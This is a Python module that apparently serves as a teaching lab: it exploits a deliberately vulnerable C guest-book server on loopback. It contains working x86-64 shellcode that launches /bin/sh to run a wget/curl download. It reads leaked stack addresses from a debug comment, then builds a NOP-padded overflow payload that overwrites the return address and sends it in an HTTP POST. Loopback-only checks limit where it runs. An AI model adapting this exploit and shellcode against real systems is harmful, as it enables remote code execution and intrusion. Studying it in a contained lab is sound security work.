"""A victim to possess: a guest book with one mistake, and the attack on it. Both keep to the loopback.

The victim is `native/victim/victim.c`, built by `make victim`. It copies a name of any length to its stack, and a line
that was left on for debugging tells where that is. The attack brings code that has a shell download a file from the
loopback, throw it away, and say a word to the one who attacked: it is harmless where it succeeds.

    name      code │ "/bin/sh" │ "-c" │ the line for the shell │ filler
    back      the address of `name`, where the return address was
"""

from __future__ import annotations

import ipaddress
import os
import re
import socket
import struct
import time
from dataclasses import dataclass
from pathlib import Path

BUILT = Path(__file__).resolve().parent / "built" / "victim"
PORT = 7575
WORD = b"HIJACKED"
NOBODY = 65534
PEER_S = 20.0
ANSWER_BYTES_MAX = 1 << 16
PUSHED_BYTES = 64  # what the code itself puts on the stack, below the way back
NAME_BYTES = 512

_NOP = b"\x90"
_DEBUG = re.compile(rb"<!-- debug name=0x([0-9a-f]+) back=0x([0-9a-f]+) -->")


class VictimError(Exception):
    """The victim is not built, does not answer, or is another; the text says what to do."""


@dataclass(frozen=True, slots=True)
class Outcome:
    """How an attack ended: what the victim answered, the code that was brought, and whether it ran."""

    answer: bytes
    code: bytes
    has_run: bool


def become(port: int) -> None:
    """Turn this process into the victim; with root, as nobody. Returns only by an error: `VictimError`, `OSError`."""
    try:
        program = os.open(BUILT, os.O_RDONLY | os.O_CLOEXEC)  # nobody may be unable to enter the folder
    except FileNotFoundError:
        raise VictimError("the victim is not built; `make victim` builds it, with a C compiler, on x86-64") from None
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
    os.execve(program, ["victim", str(port)], {})  # noqa: S606  # it is ours, and there is no shell


def shellcode(url: str) -> bytes:
    """Return code that runs wherever it lies: execve("/bin/sh", ["/bin/sh", "-c", line], 0).

    The line downloads to nowhere and says the word. Raises `ValueError` for anything but a plain URL of 127.0.0.1.
    """
    if not re.fullmatch(r"http://127\.0\.0\.1(:[0-9]{1,5})?/[A-Za-z0-9._/-]*", url):
        raise ValueError(f"{url!r} is no plain URL of this machine, such as http://127.0.0.1:8000/file")
    line = b"wget -q -O /dev/null %s || curl -s -o /dev/null %s; echo %s" % (url.encode(), url.encode(), WORD)
    pieces = (b"/bin/sh\0", b"-c\0", line + b"\0")
    shell, dash_c, text = (_CODE_BYTES + sum(map(len, pieces[:n])) for n in range(3))
    return b"".join((
        b"\x48\x8d\x3d" + struct.pack("<i", shell - 7),  # lea rdi, [rip + shell]
        b"\x48\x8d\x05" + struct.pack("<i", text - 14),  # lea rax, [rip + text]
        b"\x31\xd2\x52\x50",  # xor edx, edx; push rdx; push rax
        b"\x48\x8d\x05" + struct.pack("<i", dash_c - 25),  # lea rax, [rip + dash_c]
        b"\x50\x57\x48\x89\xe6",  # push rax; push rdi; mov rsi, rsp
        b"\x6a\x3b\x58\x0f\x05\x0f\x0b",  # push 59; pop rax; syscall; ud2
        *pieces,
    ))  # fmt: skip


_CODE_BYTES = 37


def look(host: str, port: int) -> tuple[int, int]:
    """Return where a name will lie on the victim's stack, and where the way back. Raises `VictimError`."""
    found = _DEBUG.search(_ask(host, port, b"GET / HTTP/1.0\r\n\r\n"))
    if found is None:
        raise VictimError(f"on {host} port {port} is something else than the victim")
    return int(found[1], 16), int(found[2], 16)


def payload(code: bytes, name: int, back: int) -> bytes:
    """Return the name that takes over. Raises `ValueError` if there is no room for the code."""
    if not NAME_BYTES <= back - name < 2 * NAME_BYTES:
        raise VictimError("the victim's stack is not as it should be")
    if len(code) + PUSHED_BYTES > back - name:
        raise ValueError(f"the code has {len(code)} bytes, and there is room for {back - name - PUSHED_BYTES}")
    return code.ljust(back - name, _NOP) + struct.pack("<Q", name)


def attack(host: str, port: int, url: str, pause_s: float = 0) -> Outcome:
    """Attack the victim on a loopback address; between looking where to aim and the attack rest for `pause_s`.

    Raises `ValueError` for any other address, `VictimError` if no victim is there, `OSError` of the connection.
    """
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"{host} is no loopback address; this attack is for no other")
    code = shellcode(url)
    aim = look(host, port)
    time.sleep(pause_s)
    name = payload(code, *aim)
    answer = _ask(host, port, b"POST /sign HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(name) + name)
    return Outcome(answer, code, answer.rstrip().endswith(WORD))


def _ask(host: str, port: int, request: bytes) -> bytes:
    with socket.create_connection((host, port), PEER_S) as peer:
        peer.sendall(request)
        answer = b""
        while len(answer) < ANSWER_BYTES_MAX:
            try:
                piece = peer.recv(4096)
            except ConnectionResetError:
                break
            if not piece:
                break
            answer += piece
        return answer
